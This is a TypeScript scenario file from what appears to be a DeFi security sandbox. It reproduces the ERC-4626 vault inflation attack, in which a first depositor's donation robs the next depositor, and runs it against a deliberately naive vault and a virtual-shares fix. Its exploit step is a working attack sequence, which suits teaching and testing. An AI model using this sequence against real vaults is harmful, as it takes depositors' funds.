import {
  MockERC20__factory,
  NaiveVault__factory,
  VirtualSharesVault__factory,
  type MockERC20,
  type NaiveVault,
} from "../../typechain-types/index.js";
import { formatAmount } from "./format.js";
import { measureTracked } from "./measure.js";
import { commonChecks } from "./run.js";
import { attempt, send } from "./steps.js";
import type { Scenario, World } from "./types.js";

const DAI = 10n ** 18n;

/** The deposit alice is about to make into the fresh vault: public in the mempool. */
export const VICTIM_DEPOSIT = 10_000n * DAI;
/** What the shipped exploit donates: as much as the victim's deposit. */
export const DONATION = 10_000n * DAI;
/** The hardened vault's DECIMALS_OFFSET: 10^6 virtual shares. */
export const VIRTUAL_SHARES = 10n ** 6n;

export interface InflationWorld extends World {
  /** The vault under attack (NaiveVault or VirtualSharesVault: both ERC-4626). */
  vault: NaiveVault;
  /** The vault's asset: the sandbox's DAI. */
  token: MockERC20;
  /** The deposit the victim has queued. */
  victimDeposit: bigint;
}

/** The first depositor of an empty vault donates to it so that the next deposit mints no share. */
export const erc4626Inflation: Scenario<InflationWorld> = {
  name: "erc4626-inflation",
  title: "ERC-4626 inflation: the first depositor robs the second with a donation",
  incident:
    "Hundred Finance, 2023-04-15: ~$7M; an empty market's share price inflated by a donation, rounding took the rest",
  fix: "OpenZeppelin virtual shares (decimals offset 6)",

  async setup(env, side) {
    const { actors, sandbox, log } = env;
    const token = MockERC20__factory.connect(await sandbox.dai.getAddress(), actors.deployer);
    const factory =
      side === "vulnerable"
        ? new NaiveVault__factory(actors.deployer)
        : new VirtualSharesVault__factory(actors.deployer);
    const deployed = await factory.deploy(await token.getAddress(), "Sandbox DAI Vault", "svDAI");
    await deployed.waitForDeployment();
    const address = await deployed.getAddress();
    const vault = NaiveVault__factory.connect(address, actors.deployer);
    await send(token.faucet(actors.alice.address, VICTIM_DEPOSIT));
    await send(token.faucet(actors.attacker.address, DONATION + 1n));
    log(
      `  a fresh ${side === "vulnerable" ? "NaiveVault" : "VirtualSharesVault"} over DAI; alice queues a deposit of ${formatAmount(VICTIM_DEPOSIT, 18, "DAI")}`,
    );
    return {
      side,
      env,
      attacker: actors.attacker,
      contract: side === "vulnerable" ? "NaiveVault" : "VirtualSharesVault",
      vault,
      token,
      victimDeposit: VICTIM_DEPOSIT,
      tracked: {
        asset: { kind: "erc20", symbol: "DAI", decimals: 18, token },
        attacker: [actors.attacker.address],
        victims: [actors.alice.address],
        protocol: address,
        victimsClaims: 0n,
        // Rounding may keep up to one part in 10^6 of the victim's deposit on the hardened side.
        dust: side === "vulnerable" ? 0n : VICTIM_DEPOSIT / VIRTUAL_SHARES,
        dustReason: "rounding (one part in 10^6 of the deposit)",
      },
      errorInterfaces: [vault.interface, token.interface],
    };
  },

  async exploit(world) {
    const { attacker, vault, token, env } = world;
    const vaultAddress = await vault.getAddress();
    env.log("  attacker deposits 1 wei for the first share(s)");
    await send(token.connect(attacker).approve(vaultAddress, 1n));
    await send(vault.connect(attacker).deposit(1n, attacker.address));
    env.log(`  attacker donates ${formatAmount(DONATION, 18, "DAI")} straight to the vault`);
    await send(token.connect(attacker).transfer(vaultAddress, DONATION));
  },

  async settle(world) {
    const { actors } = world.env;
    const { vault, token } = world;
    const vaultAddress = await vault.getAddress();
    const alice = actors.alice;
    await send(token.connect(alice).approve(vaultAddress, world.victimDeposit));
    await attempt(world, `alice deposits ${formatAmount(world.victimDeposit, 18, "DAI")}`, () =>
      vault.connect(alice).deposit(world.victimDeposit, alice.address),
    );
    for (const [name, account] of [
      ["alice", alice],
      ["attacker", actors.attacker],
    ] as const) {
      const shares = await vault.balanceOf(account.address);
      if (shares === 0n) {
        world.env.log(`  ${name} holds no share`);
        continue;
      }
      await attempt(world, `${name} redeems ${shares} shares`, () =>
        vault.connect(account).redeem(shares, account.address, account.address),
      );
    }
  },

  measure(world, sinceBlock) {
    return measureTracked(world.env.ethers, world.tracked, sinceBlock);
  },

  check: commonChecks,
};
